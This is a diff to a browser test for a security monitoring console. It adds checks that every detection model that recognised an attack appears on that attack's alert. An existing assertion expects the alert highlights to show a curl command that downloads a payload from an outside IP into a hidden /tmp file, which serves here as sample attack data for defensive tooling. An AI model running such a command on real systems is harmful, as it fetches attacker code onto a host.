@@ -194,6 +194,9 @@ describe('web console', { skip: !hasChromium, timeout: 90_000 }, () => {
     expect(await page.getByTestId('highlights').textContent()).toContain('curl -s -o /tmp/.x4100 http://203.0.113.5/x');
     expect(await page.getByTestId('score').textContent()).toContain(String(a.score));
     expect(await page.getByTestId('scope').textContent()).toContain('web7');
+    // every model that recognised this attack is named on its one alert
+    const models = await page.getByTestId('alert-models').textContent();
+    for (const m of a.models) expect(models).toContain(m.title);
     await poll(() => page.locator('[data-testid=oat-timeline] li').count()).toBeGreaterThanOrEqual(4);
     await page.locator('[data-testid=alert-graph] canvas').first().waitFor();
     // response buttons for the host, for an admin
